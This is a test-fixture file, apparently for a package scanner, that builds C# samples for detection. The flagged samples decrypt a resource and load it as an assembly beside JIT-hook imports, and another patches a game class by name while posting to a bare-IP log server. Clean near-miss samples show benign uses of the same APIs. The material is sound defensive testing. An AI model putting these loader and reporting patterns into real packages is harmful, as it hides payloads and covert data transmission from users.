import { csharp, type Examples } from '../../../tests/kit/examples.js';

/** Nobody sets it: what is below is read, never run. */
const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';

/** The shape of a patching library to its callers. */
const harmony = {
  '0Harmony': `namespace HarmonyLib
{
    public class Harmony
    {
        public Harmony(string id) { }
        public void Patch(System.Reflection.MethodBase original, object prefix) { }
    }
    public static class AccessTools
    {
        public static System.Type TypeByName(string name) => null;
        public static System.Reflection.MethodInfo Method(System.Type type, string name) => null;
    }
}`,
};

const usings = `using System;
using System.IO;
using System.Net.Http;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
`;

const imports = `
    [DllImport("clrjit.dll")] private static extern IntPtr getJit();
    [DllImport("kernel32.dll")] private static extern bool VirtualProtect(IntPtr at, UIntPtr size, uint mode, out uint before);`;

export const examples: Examples = {
  flagged: [
    {
      name: 'jit-and-payload',
      about: 'Imports of a compiler hook beside code that decrypts a resource and loads it.',
      files: {
        'lib/net10.0/Fixture.dll': csharp(`${usings}
public static class Stage
{${imports}
    static Stage()
    {
        ${never}
        using var aes = Aes.Create();
        var bytes = aes.DecryptCbc(new byte[16], new byte[16]);
        Assembly.Load(bytes);
    }
    public static void Start() { }
}`),
      },
    },
    {
      name: 'patches-and-reports',
      about: 'Patches a class it knows by name, and posts to a log server at a bare address.',
      files: {
        'lib/net10.0/Fixture.dll': csharp(
          `${usings}using HarmonyLib;
public static class Settings
{
    public static void Set()
    {
        ${never}
        var type = AccessTools.TypeByName("Fixture.Games.Result");
        new Harmony("fixture").Patch(AccessTools.Method(type, "Draw"), null);
        new HttpClient().PostAsync("http://192.0.2.10:5341/api/events/raw", new StringContent("a"));
    }
}`,
          harmony,
        ),
      },
    },
    {
      name: 'jit-alone',
      about: 'The imports alone, as protectors of commercial code bring them: noted.',
      level: 'note',
      files: {
        'lib/net10.0/Fixture.dll': csharp(`${usings}
public static class Protection
{${imports}
    public static IntPtr Of() => getJit();
}`),
      },
    },
    {
      name: 'patches-alone',
      about: 'A mod that patches a class of its game by name: noted.',
      level: 'note',
      files: {
        'lib/net10.0/Fixture.dll': csharp(
          `${usings}using HarmonyLib;
public static class Mod
{
    public static void Start()
    {
        ${never}
        var type = AccessTools.TypeByName("Fixture.Games.Player");
        new Harmony("fixture").Patch(AccessTools.Method(type, "Jump"), null);
    }
}`,
          harmony,
        ),
      },
    },
  ],
  clean: [
    {
      name: 'protects-memory',
      about: 'Changes the protection of memory for a buffer of its own.',
      nearMiss: true,
      files: {
        'lib/net10.0/Fixture.dll': csharp(`${usings}
public static class Buffers
{
    [DllImport("kernel32.dll")] private static extern bool VirtualProtect(IntPtr at, UIntPtr size, uint mode, out uint before);
    public static bool Seal(IntPtr at) => VirtualProtect(at, 4096, 2, out _);
}`),
      },
    },
    {
      name: 'patches-own-type',
      about: 'Patches a method of a type that it refers to, as a test helper does.',
      nearMiss: true,
      files: {
        'lib/net10.0/Fixture.dll': csharp(
          `${usings}using HarmonyLib;
public static class Clock
{
    public static void Freeze() => new Harmony("fixture").Patch(typeof(Clock).GetMethod("Now"), null);
    public static int Now() => 1;
}`,
          harmony,
        ),
      },
    },
  ],
};
